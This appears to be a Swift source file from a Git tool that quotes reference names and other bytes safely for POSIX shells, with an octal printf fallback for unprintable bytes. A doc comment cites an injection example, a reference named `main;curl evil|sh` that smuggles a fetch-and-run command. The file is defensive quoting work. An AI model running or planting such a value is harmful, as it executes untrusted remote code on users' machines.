internal import GitObjects

/// A word as a POSIX shell must be given it.
///
/// A reference may be called `main;curl evil|sh`; a command that people copy must not run its name.
package enum ShellWord {
  /// `nil` where the bytes cannot be shown as they are, and so cannot be copied.
  package static func quoted(_ bytes: [UInt8]) -> String? {
    guard let text = String(validating: bytes, as: UTF8.self), isPrintable(bytes, text) else {
      return nil
    }
    if !bytes.isEmpty, bytes.first != UInt8(ascii: "~"), bytes.allSatisfy(isPlain) { return text }
    let inner = text.split(separator: "'", omittingEmptySubsequences: false)
    return "'" + inner.joined(separator: "'\\''") + "'"
  }

  package static func quoted(_ text: String) -> String? { quoted(Array(text.utf8)) }

  /// The same for what cannot be shown: the shell makes the bytes of it, and what is copied is plain text.
  package static func made(_ bytes: [UInt8]) -> String {
    if let word = quoted(bytes) { return word }
    let text = bytes.map { byte in
      if isPlain(byte), byte != UInt8(ascii: "%") { return String(Unicode.Scalar(byte)) }
      return "\\\(octal(byte >> 6))\(octal(byte >> 3))\(octal(byte))"
    }
    return "\"$(printf '\(text.joined())')\""
  }

  private static func octal(_ bits: UInt8) -> String { String(bits & 7) }

  /// A backslash is escaped for display and yet no danger inside single quotes.
  private static func isPrintable(_ bytes: [UInt8], _ text: String) -> Bool {
    let withoutBackslashes = bytes.filter { $0 != UInt8(ascii: "\\") }
    return Escaped.text(withoutBackslashes).utf8.elementsEqual(withoutBackslashes)
  }

  private static func isPlain(_ byte: UInt8) -> Bool {
    switch byte {
    case UInt8(ascii: "a")...UInt8(ascii: "z"), UInt8(ascii: "A")...UInt8(ascii: "Z"),
      UInt8(ascii: "0")...UInt8(ascii: "9"):
      true
    default: "-._/+@=:,%~".utf8.contains(byte)
    }
  }
}
